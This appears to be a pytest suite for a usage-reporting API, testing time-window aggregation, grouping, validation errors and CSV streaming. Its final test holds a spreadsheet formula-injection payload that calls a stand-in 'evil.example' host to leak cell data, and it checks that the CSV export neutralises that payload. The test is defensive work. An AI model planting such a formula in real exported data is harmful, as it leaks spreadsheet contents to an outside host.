"""GET /api/v1/usage: pulses counted by a real worker, some persisted, some still in Redis.

Every answer is compared with a Decimal ledger the test keeps of what it sent, cut
into windows by the test itself (hour, local day, local month, one total), grouped by
every subset of the group fields, filtered by several values; include_pending=false
shows only what PostgreSQL holds. The refusals are 400s naming the parameter.
"""

from __future__ import annotations

import csv
import io
import itertools
import subprocess
import time
from collections import defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import text

from ingestor.api.usage import MAX_JSON_ROWS
from ingestor.pulses import keys
from ingestor.pulses.task_names import INGEST_PULSES, PERSIST_PULSES
from tests.support.pulses import pulse
from tests.support.worker import wait_until_idle

pytestmark = pytest.mark.usefixtures("clean_state")

QUEUES = ("pulses", "persist")
GROUP_FIELDS = ("tenant", "product_sku", "use_unity")
BERLIN = ZoneInfo("Europe/Berlin")
# Two days ago at 00:00 UTC: every pulse is in the past and within the late limit.
DAY = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=2)
MAX_AMOUNT = "9223372036854.775807"  # 2^63 - 1 micro-units, the largest pulse


@dataclass(frozen=True)
class Sent:
    hour: datetime
    tenant: str
    product_sku: str
    use_unity: str
    amount: Decimal
    persisted: bool


# (hour offset from DAY, tenant, sku, unit, amount): 23:00 UTC is the next day in Berlin.
FIRST = [
    (-3, "acme", "vm", "hour", "1.500000"),
    (-1, "acme", "vm", "hour", "0.000001"),
    (-1, "globex", "disk", "GB", "2.25"),
    (1, "acme", "disk", "GB", "10"),
    (1, "initech ☕", "vm", "hour", "3.333333"),
    (5, "acme", "vm", "hour", MAX_AMOUNT),
    (5, "acme", "vm", "hour", MAX_AMOUNT),
]
SECOND = [
    (5, "acme", "vm", "hour", MAX_AMOUNT),  # a persisted hour gets more, still pending
    (1, "globex", "vm", "hour", "0.1"),
    (26, "acme", "vm", "hour", "7"),
    (26, "globex", "disk", "GB", "0.000002"),
    (-3, "initech ☕", "disk", "GB", "4"),
]


def send(producer, worker, rows, persisted: bool, prefix: str) -> list[Sent]:
    pulses, sent = [], []
    for i, (offset, tenant, sku, unit, amount) in enumerate(rows):
        hour = DAY + timedelta(hours=offset)
        pulses.append(
            pulse(
                id=f"{prefix}{i}",
                tenant=tenant,
                product_sku=sku,
                use_unity=unit,
                used_amount=amount,
                timestamp=hour + timedelta(minutes=17),
            )
        )
        sent.append(Sent(hour, tenant, sku, unit, Decimal(amount), persisted))
    producer.send_task(INGEST_PULSES, args=[pulses], exchange="pulses", routing_key="pulses")
    wait_until_idle(producer, worker, QUEUES)
    return sent


@pytest.fixture
def ledger(producer, worker, redis_client) -> list[Sent]:
    """FIRST counted and persisted through the worker, then SECOND counted (pending)."""
    sent = send(producer, worker, FIRST, True, "a")
    producer.send_task(PERSIST_PULSES, exchange="persist", routing_key="persist")
    wait_until_idle(producer, worker, QUEUES)
    sent += send(producer, worker, SECOND, False, "b")
    assert any(redis_client.scan_iter(match=keys.PREFIX + "{*}:w:*")), "SECOND is pending"
    return sent


def expected(
    sent: list[Sent],
    window_of: Callable[[datetime], object],
    group_by: tuple[str, ...] = (),
    include_pending: bool = True,
    **filters: tuple[str, ...],
) -> dict[tuple, tuple[str, int]]:
    sums: dict[tuple, list] = defaultdict(lambda: [Decimal(0), 0])
    for item in sent:
        if not include_pending and not item.persisted:
            continue
        if any(getattr(item, name) not in values for name, values in filters.items()):
            continue
        key = (window_of(item.hour), *(getattr(item, name) for name in group_by))
        sums[key][0] += item.amount
        sums[key][1] += 1
    return {key: (f"{amount:.6f}", count) for key, (amount, count) in sums.items()}


def answered(body: dict, window_of: Callable[[datetime], object], group_by: tuple[str, ...] = ()) -> dict:
    rows = body["rows"]
    order = [(row["window_start"], *(row[name] for name in group_by)) for row in rows]
    assert order == sorted(order, key=lambda k: (datetime.fromisoformat(k[0]), *k[1:])), "rows out of order"
    for row in rows:
        assert set(row) == {"window_start", "window_end", *group_by, "used_amount", "pulse_count"}
    return {
        (window_of(datetime.fromisoformat(row["window_start"])), *(row[name] for name in group_by)): (
            row["used_amount"],
            row["pulse_count"],
        )
        for row in rows
    }


def get_usage(client, auth, **params):
    params.setdefault("from", (DAY - timedelta(days=1)).isoformat())
    params.setdefault("to", (DAY + timedelta(days=2)).isoformat())
    return client.get("/api/v1/usage", query_string=params, headers=auth)


def utc_hour(moment: datetime) -> datetime:
    return moment.astimezone(UTC)


def berlin_day(moment: datetime):
    return moment.astimezone(BERLIN).date()


def test_hours_days_in_berlin_and_the_total_hold_persisted_and_pending_usage(client, auth, ledger):
    hours = get_usage(client, auth, window_size="hour")
    assert hours.status_code == 200, hours.get_json()
    assert answered(hours.get_json(), utc_hour) == expected(ledger, utc_hour)
    first = hours.get_json()["rows"][0]
    assert datetime.fromisoformat(first["window_end"]) - datetime.fromisoformat(
        first["window_start"]
    ) == timedelta(hours=1)

    berlin_from = datetime.combine(berlin_day(DAY - timedelta(days=1)), datetime.min.time(), BERLIN)
    days = get_usage(
        client, auth, window_size="day", time_zone="Europe/Berlin", **{"from": berlin_from.isoformat()}
    )
    assert days.status_code == 200, days.get_json()
    body = days.get_json()
    assert body["time_zone"] == "Europe/Berlin" and body["window_size"] == "day"
    assert answered(body, berlin_day) == expected(ledger, berlin_day)
    # 23:00 UTC is already the next day in Berlin: not the UTC day's answer.
    assert answered(body, berlin_day) != expected(ledger, lambda h: h.astimezone(UTC).date())
    for row in body["rows"]:
        start = datetime.fromisoformat(row["window_start"])
        assert start.astimezone(BERLIN).time() == datetime.min.time()
        assert row["window_start"].endswith(("+01:00", "+02:00"))

    total = get_usage(client, auth)
    assert total.status_code == 200
    [row] = total.get_json()["rows"]
    assert (row["used_amount"], row["pulse_count"]) == expected(ledger, lambda h: None)[(None,)]
    assert (
        row["used_amount"] == f"{3 * Decimal(MAX_AMOUNT) + Decimal('28.183336'):.6f}"
    )  # past 2^63 micro-units


def test_months_in_a_zone(client, auth, ledger):
    def month(moment: datetime) -> tuple[int, int]:
        local = moment.astimezone(BERLIN)
        return local.year, local.month

    start = (DAY - timedelta(days=1)).astimezone(BERLIN).replace(day=1, hour=0)
    response = get_usage(
        client, auth, window_size="month", time_zone="Europe/Berlin", **{"from": start.isoformat()}
    )
    assert response.status_code == 200, response.get_json()
    assert answered(response.get_json(), month) == expected(ledger, month)


def test_every_subset_of_group_fields_with_filters_of_several_values(client, auth, ledger):
    for size in range(len(GROUP_FIELDS) + 1):
        for group_by in itertools.combinations(GROUP_FIELDS, size):
            response = get_usage(client, auth, window_size="hour", group_by=list(group_by))
            assert response.status_code == 200, (group_by, response.get_json())
            assert answered(response.get_json(), utc_hour, group_by) == expected(
                ledger, utc_hour, group_by
            ), group_by

    filters = {"tenant": ("acme", "initech ☕"), "product_sku": ("vm", "disk"), "use_unity": ("hour",)}
    response = get_usage(client, auth, window_size="hour", group_by=["tenant", "product_sku"], **filters)
    assert response.status_code == 200, response.get_json()
    group_by = ("tenant", "product_sku")
    assert answered(response.get_json(), utc_hour, group_by) == expected(
        ledger, utc_hour, group_by, **filters
    )
    assert {row["tenant"] for row in response.get_json()["rows"]} == {"acme", "initech ☕"}


def test_include_pending_false_shows_only_what_postgresql_holds(client, auth, ledger):
    response = get_usage(client, auth, window_size="hour", group_by=["tenant"], include_pending="false")
    assert response.status_code == 200, response.get_json()
    persisted = expected(ledger, utc_hour, ("tenant",), include_pending=False)
    assert answered(response.get_json(), utc_hour, ("tenant",)) == persisted
    assert persisted != expected(ledger, utc_hour, ("tenant",))


def test_an_empty_range_has_no_rows(client, auth, clean_state):
    response = get_usage(client, auth, window_size="day")
    assert response.status_code == 200
    assert response.get_json()["rows"] == []


FROM, TO = "2026-11-01T00:00:00Z", "2026-11-03T00:00:00Z"


@pytest.mark.parametrize(
    ("params", "parameter", "words"),
    [
        ({"to": TO}, "from", "Missing data"),
        ({"from": FROM}, "to", "Missing data"),
        ({"from": "2026-11-01T00:00:00", "to": TO}, "from", "offset"),
        ({"from": "yesterday", "to": TO}, "from", "Not a valid datetime"),
        ({"from": "2026-11-01T00:30:00Z", "to": TO}, "from", "whole UTC hour"),
        ({"from": FROM, "to": "2026-11-02T10:00:00.5+00:00"}, "to", "whole UTC hour"),
        ({"from": TO, "to": FROM}, "to", "must be after"),
        ({"from": "0001-01-01T00:00:00+01:00", "to": TO}, "from", "in the years 1900 to 9000"),
        ({"from": "2025-01-01T00:00:00Z", "to": "2026-02-05T01:00:00Z"}, "to", "400 days"),
        ({"from": FROM, "to": TO, "time_zone": "Mars/Olympus"}, "time_zone", "Unknown time zone"),
        (
            {"from": FROM, "to": TO, "time_zone": "Asia/Kolkata", "window_size": "day"},
            "time_zone",
            "inside a UTC hour",
        ),
        (
            {"from": "2026-10-30T00:00:00Z", "to": TO, "time_zone": "Asia/Kolkata", "window_size": "month"},
            "time_zone",
            "inside a UTC hour",
        ),
        ({"from": FROM, "to": TO, "window_size": "week"}, "window_size", "Must be one of"),
        ({"from": FROM, "to": TO, "group_by": "sku"}, "group_by", "Must be one of"),
        ({"from": FROM, "to": TO, "include_pending": "maybe"}, "include_pending", "Not a valid boolean"),
        ({"from": FROM, "to": TO, "format": "xml"}, "format", "Must be one of"),
    ],
)
def test_bad_parameters_are_400s_naming_the_parameter(client, auth, params, parameter, words):
    response = client.get("/api/v1/usage", query_string=params, headers=auth)
    assert response.status_code == 400, response.get_json()
    error = response.get_json()["error"]
    assert f"'{parameter}'" in error["message"] and words in error["message"], error
    assert parameter in error["details"]["query"], error


def test_a_kolkata_total_and_kolkata_hours_are_answered(client, auth, clean_state):
    for window_size in (None, "hour"):
        params = {"from": FROM, "to": TO, "time_zone": "Asia/Kolkata"}
        if window_size:
            params["window_size"] = window_size
        response = client.get("/api/v1/usage", query_string=params, headers=auth)
        assert response.status_code == 200, response.get_json()
        assert response.get_json()["from"] == "2026-11-01T05:30:00+05:30"


def test_a_token_is_required(client):
    response = client.get("/api/v1/usage", query_string={"from": FROM, "to": TO})
    assert response.status_code == 401


def test_pending_usage_that_cannot_be_read_exactly_is_a_503_with_retry_after(client, auth, redis_client):
    redis_client.sadd(keys.LEGACY_PENDING_WINDOWS, keys.legacy_window_key(keys.hour_of(DAY)))
    response = client.get("/api/v1/usage", query_string={"from": FROM, "to": TO}, headers=auth)
    assert response.status_code == 503, response.get_json()
    assert response.headers["Retry-After"] == "60"
    error = response.get_json()["error"]
    assert "draining the previous layout" in error["message"] and "include_pending=false" in error["message"]
    assert error["details"] == {"service": "redis"}
    persisted_only = client.get(
        "/api/v1/usage", query_string={"from": FROM, "to": TO, "include_pending": "false"}, headers=auth
    )
    assert persisted_only.status_code == 200


def test_more_rows_than_the_json_cap_is_a_400_pointing_to_csv(client, auth, database):
    insert_groups(database, MAX_JSON_ROWS + 1)
    response = get_usage(client, auth, **{"from": FROM, "to": TO}, group_by="product_sku")
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert "CSV" in response.get_json()["error"]["message"]
    exactly = get_usage(
        client, auth, **{"from": FROM, "to": TO}, group_by="product_sku", product_sku=["sku-1", "sku-2"]
    )
    assert [row["product_sku"] for row in exactly.get_json()["rows"]] == ["sku-1", "sku-2"]


def insert_groups(database, groups: int) -> None:
    """`groups` persisted sums of one hour (2026-11-01 00:00 UTC), sku-1..sku-N, amount N.000001 each."""
    with database.engine.begin() as connection:
        connection.execute(
            text(
                "INSERT INTO pulse_usage (tenant, product_sku, use_unity, window_start, used_amount, pulse_count)"
                " SELECT 'acme', 'sku-' || n, 'h', '2026-11-01T00:00Z', n + 0.000001, 1"
                " FROM generate_series(1, :groups) AS n"
            ),
            {"groups": groups},
        )


# --- CSV through an outside client, against gunicorn as the Procfile runs it -----------------


def curl(port: int, token: str, params: dict, output, *extra: str) -> subprocess.Popen:
    url = f"http://127.0.0.1:{port}/api/v1/usage?{urlencode(params, doseq=True)}"
    return subprocess.Popen(
        [
            "curl",
            "--silent",
            "--show-error",
            "--output",
            str(output),
            "-H",
            f"Authorization: Bearer {token}",
            *extra,
            url,
        ],
        stderr=subprocess.PIPE,
        text=True,
    )


def test_csv_streams_more_rows_than_the_json_cap_in_byte_order(gunicorn, token, database, tmp_path):
    groups = MAX_JSON_ROWS + 5
    insert_groups(database, groups)
    output = tmp_path / "usage.csv"
    params = {"from": FROM, "to": TO, "group_by": "product_sku", "window_size": "day", "format": "csv"}
    process = curl(gunicorn, token, params, output, "--write-out", "%{http_code} %{content_type}")
    _, stderr = process.communicate(timeout=240)
    assert process.returncode == 0, stderr
    data = output.read_bytes()
    assert data.endswith(b"\r\n"), "a complete CSV ends with its line end"
    rows = list(csv.reader(io.StringIO(data.decode())))
    assert rows[0] == ["window_start", "window_end", "product_sku", "used_amount", "pulse_count"]
    assert len(rows) == groups + 1
    skus = [row[2] for row in rows[1:]]
    assert skus == sorted(f"sku-{n}" for n in range(1, groups + 1))  # sku-1, sku-10, sku-100, ...
    assert {(row[0], row[1]) for row in rows[1:]} == {
        ("2026-11-01T00:00:00+00:00", "2026-11-02T00:00:00+00:00")
    }
    amounts = {row[2]: row[3] for row in rows[1:]}
    assert amounts["sku-100005"] == "100005.000001" and amounts["sku-7"] == "7.000001"


def test_csv_by_accept_header_holds_the_json_rows_pending_included(
    gunicorn, token, client, auth, ledger, tmp_path
):
    params = {
        "from": (DAY - timedelta(days=1)).isoformat(),
        "to": (DAY + timedelta(days=2)).isoformat(),
        "window_size": "hour",
        "group_by": ["tenant", "use_unity"],
    }
    output = tmp_path / "usage.csv"
    process = curl(gunicorn, token, params, output, "-H", "Accept: text/csv")
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 0, stderr
    rows = list(csv.DictReader(io.StringIO(output.read_text())))
    json_rows = client.get("/api/v1/usage", query_string=params, headers=auth).get_json()["rows"]
    assert rows == [{name: str(value) for name, value in row.items()} for row in json_rows]
    assert answered({"rows": json_rows}, utc_hour, ("tenant", "use_unity")) == expected(
        ledger, utc_hour, ("tenant", "use_unity")
    )


# The sessions of this test database fetching from a usage cursor (not this one's).
STREAMING_SESSIONS = (
    "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE datname = current_database()"
    " AND pid <> pg_backend_pid() AND (query LIKE 'FETCH%' OR query LIKE '%width_bucket%')"
)


def kill_streaming_sessions(database) -> int:
    """Terminate the database sessions streaming a usage answer; how many there were."""
    with database.engine.connect() as connection:
        return connection.scalar(text(STREAMING_SESSIONS)) or 0


def test_a_csv_broken_off_by_a_database_failure_is_visibly_incomplete(gunicorn, token, database, tmp_path):
    insert_groups(database, MAX_JSON_ROWS + 5)
    output = tmp_path / "usage.csv"
    params = {"from": FROM, "to": TO, "group_by": "product_sku", "format": "csv"}
    # Slow enough that the stream is still running when its database session is killed.
    process = curl(gunicorn, token, params, output, "--limit-rate", "300k")
    killed = 0
    deadline = time.monotonic() + 30
    while not killed and time.monotonic() < deadline:
        time.sleep(0.2)
        if not output.exists() or output.stat().st_size < 100_000:
            continue  # not started yet: a failure now is an ordinary 503
        killed = kill_streaming_sessions(database)
    _, stderr = process.communicate(timeout=120)
    assert killed, "the streaming session was found"
    assert process.returncode == 18, (process.returncode, stderr)  # curl: transfer closed, data missing
    data = output.read_bytes()
    assert data.startswith(b"window_start,") and not data.endswith(b"\r\n")


# Tenants a spreadsheet would run as formulas: the CSV gives them a leading "'", JSON as sent.
FORMULA_TENANTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "-1+2"]


def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
    gunicorn, token, client, auth, producer, worker, tmp_path
):
    rows = [(1, tenant, "@vm", "hour", "2.5") for tenant in FORMULA_TENANTS] + [(1, "acme", "vm", "+GB", "1")]
    send(producer, worker, rows, False, "f")
    params = {
        "from": (DAY - timedelta(days=1)).isoformat(),
        "to": (DAY + timedelta(days=2)).isoformat(),
        "group_by": ["tenant", "product_sku", "use_unity"],
    }
    output = tmp_path / "usage.csv"
    process = curl(gunicorn, token, {**params, "format": "csv"}, output)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 0, stderr
    cells = [
        (row["tenant"], row["product_sku"], row["use_unity"], row["used_amount"], row["pulse_count"])
        for row in csv.DictReader(io.StringIO(output.read_text()))
    ]
    assert cells == [
        ("'-1+2", "'@vm", "hour", "2.500000", "1"),
        ('\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'@vm", "hour", "2.500000", "1"),
        ("acme", "vm", "'+GB", "1.000000", "1"),
    ]
    json_rows = client.get("/api/v1/usage", query_string=params, headers=auth).get_json()["rows"]
    assert [row["tenant"] for row in json_rows] == ["-1+2", FORMULA_TENANTS[0], "acme"]
